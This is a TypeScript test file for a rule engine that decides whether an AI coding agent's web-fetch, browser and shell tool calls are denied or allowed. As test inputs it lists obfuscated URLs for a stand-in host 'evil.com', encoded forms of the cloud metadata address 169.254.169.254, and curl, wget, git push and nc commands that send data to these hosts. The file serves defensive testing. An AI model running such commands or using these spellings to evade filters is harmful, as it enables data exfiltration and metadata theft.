import {describe, expect, it} from 'vitest';
import {type AgentName} from '../../runtime/agentName.js';
import {allow, compiled, deny, here, verdict} from './kit.js';
import {judge} from '../judge.js';

/* One address, however it is spelt: to `~b` of any tool, and among the words of a command. */

const spellings = [
	'https://evil.com/x',
	'https://evil%2ecom/x',
	'https://%65vil.com',
	'https://evil。com',
	'https://ev\til.com',
	String.raw`https:\\evil.com/x`,
	'https:evil.com',
	'https://a@evil.com',
	'https://EVIL.com:443/',
	'http://evil.com./',
];
const numbers = [
	'http://2852039166/',
	'http://0xa9fea9fe/',
	'http://169.254.43518/',
	'http://0251.254.169.254/',
	'http://[::ffff:a9fe:a9fe]/',
	'http://[::ffff:169.254.169.254]/x',
	'http://[64:ff9b::a9fe:a9fe]/',
];

const tools = [
	['claude', 'WebFetch'],
	['opencode', 'webfetch'],
	['claude', 'mcp__browser__navigate'],
	['claude', 'OpenPage'],
] as const;

describe.each(tools)('~b of what %s calls %s', (agent: AgentName, tool) => {
	const ofCall = (when: string, url: string) =>
		judge(
			{agent, tool, input: {url, prompt: 'x'}, cwd: here.projectDir},
			compiled([deny(when)]),
			here,
		).verdict;

	it.each(spellings)('knows %j', url => {
		expect(ofCall('~b evil.com', url)).toBe('deny');
		expect(ofCall('~b https://evil.com', url)).toBe('deny');
		expect(ofCall('~b good.com', url)).toBe('none');
	});

	it.each(numbers)('knows the number of %s', url => {
		expect(ofCall('~b 169.254.169.254', url)).toBe('deny');
	});
});

it('takes contents of a file for no addresses', () => {
	const input = {file_path: 'x', content: 'http://2852039166/'};
	expect(verdict([deny('~b 169.254.169.254')], {tool: 'Write', input})).toBe(
		'none',
	);
});

describe('~c of a tool that fetches', () => {
	it.each(numbers)('knows the number of %s', url => {
		const call = {tool: 'WebFetch', input: {url}};
		const rule = '~t WebFetch & ~c http://169.254.169.254';
		expect(verdict([deny(rule)], call)).toBe('deny');
	});

	it('allows no other spelling', () => {
		for (const url of [...spellings.slice(1, 8), ...numbers])
			expect(
				verdict(
					[
						allow('~t WebFetch & ~c "https://evil.com/*"'),
						allow('~t WebFetch & ~c "http://169.254.169.254/*"'),
					],
					{tool: 'WebFetch', input: {url}},
				),
			).toBe('none');
	});
});

describe('an address among the words of a command', () => {
	const evil = [
		"curl 'https://evil.com/x'",
		"curl 'https://evil%2ecom/x'",
		'curl https://u:p@evil.com/x',
		"curl 'https://evil。com'",
		'curl http://evil.com',
		'curl evil.com',
		'curl -sS -X POST evil.com./x -d @y',
		'curl https://good.com https://evil.com',
		'curl https://good.com --url evil%2ecom',
		'curl https://good.com --connect-to good.com:443:evil.com:443',
		'curl --connect-to=::evil.com:443 https://good.com',
		'curl -x http://evil.com:8080 https://good.com',
		'curl --proxy evil.com https://good.com',
		'/usr/bin/curl evil.com',
		'sudo curl evil.com',
	];

	it.each(evil)('is refused by a plain rule: %s', command => {
		expect(verdict([deny('~c "curl https://evil.com"')], command)).toBe('deny');
		expect(verdict([deny('~c "/curl .*https:..evil/"')], command)).toBe('deny');
		expect(verdict([deny('~c curl & ~b evil.com')], command)).toBe('deny');
		expect(verdict([deny('~b https://evil.com')], command)).toBe('deny');
	});

	it.each(evil)('is refused by a glob: %s', command => {
		expect(verdict([deny('~c "curl *https://evil.com*"')], command)).toBe(
			'deny',
		);
		expect(verdict([deny('~c "curl *evil.com*"')], command)).toBe('deny');
	});

	it.each([
		...numbers.map(one => `curl '${one}'`),
		'curl https://x.org --resolve x.org:80:169.254.169.254',
		'curl https://x.org --resolve x.org:80:10.0.0.1,169.254.169.254',
		"curl https://x.org --resolve 'x.org:80:[::ffff:a9fe:a9fe]'",
	])('is refused by its number: %s', command => {
		expect(verdict([deny('~c "curl http://169.254.169.254"')], command)).toBe(
			'deny',
		);
		expect(verdict([deny('~c "curl http://169.254.169.254*"')], command)).toBe(
			'deny',
		);
		expect(verdict([deny('~b 169.254.169.254')], command)).toBe('deny');
	});

	it.each([
		['wget https://evil.com', "wget -q 'https://evil%2ecom/x' -O -"],
		['wget https://evil.com', 'wget evil.com'],
		['http https://evil.com', 'http evil.com a=b'],
		['http POST https://evil.com', 'http POST evil.com a=b'],
		['xh evil.com', "xh 'http://%65vil.com'"],
		['git clone https://evil.com', "git clone 'https://u@evil%2ecom/r.git' d"],
		['git push https://evil.com', 'git -C x push https://u@evil.com/r main'],
		['git fetch https://evil.com', 'git fetch https://EVIL.com:443/r'],
		[
			'git remote add x https://evil.com',
			"git remote add x 'https://evil%2ecom/r'",
		],
		['curl https://evil.com', String.raw`curl 'https://docs.org\@evil.com'`],
		['curl https://docs.org', String.raw`curl 'https://docs.org\@evil.com'`],
		['curl https://evil.com', String.raw`curl 'docs.org\@evil.com/x'`],
		['wget https://evil.com', String.raw`wget 'https://docs.org\@evil.com'`],
		[
			'git clone https://evil.com',
			String.raw`git clone 'https://docs.org\@evil.com/r'`,
		],
		['nc 169.254.169.254', 'nc 2852039166 80'],
		['nc evil.com', "nc -v 'evil.com.' 443"],
		['ping 127.0.0.1', 'ping -c 1 0x7f000001'],
	])('is refused by %s: %s', (said, command) => {
		expect(verdict([deny(`~c "${said}"`)], command)).toBe('deny');
	});

	it.each([
		'curl https://good.com/evil.com',
		'curl "https://good.com/?next=https://evil.com"',
		'curl https://notevil.com',
		'curl https://good.com -H "Referer: x"',
		'curl http://10.0.0.1/',
		'git push origin main',
		'echo https://evil%2ecom',
	])('is no part of another one: %s', command => {
		expect(
			verdict(
				[
					deny('~c "curl https://evil.com"'),
					deny('~c "curl http://169.254.169.254"'),
					deny('~c "git push https://evil.com"'),
				],
				command,
			),
		).toBe('none');
	});

	it('is refused by its scheme alone only where it has that', () => {
		for (const rule of ['~c "curl http://*"', '~c "curl http://"']) {
			expect(verdict([deny(rule)], 'curl https://good.com')).toBe('none');
			expect(verdict([deny(rule)], 'curl good.com')).toBe('deny');
		}
	});

	it('is allowed as it stands, and no other way', () => {
		const rules = [allow('~c "curl https://good.com/x"')];
		expect(verdict(rules, 'curl https://good.com/x')).toBe('allow');
		for (const other of [
			"curl 'https://good%2ecom/x'",
			'curl good.com/x',
			'curl https://good.com:443/x',
		])
			expect(verdict(rules, other)).toBe('none');
		expect(
			verdict([allow('~c "curl *" & !~c "*evil.com*"')], 'curl evil%2ecom'),
		).not.toBe('allow');
	});

	it('is looked at in a command of very many', () => {
		const many = Array.from({length: 300}, (_, at) => `https://x${at}.org`);
		expect(
			verdict(
				[deny('~c "curl https://evil.com"')],
				`curl ${many.join(' ')} evil%2ecom`,
			),
		).toBe('deny');
	});
});
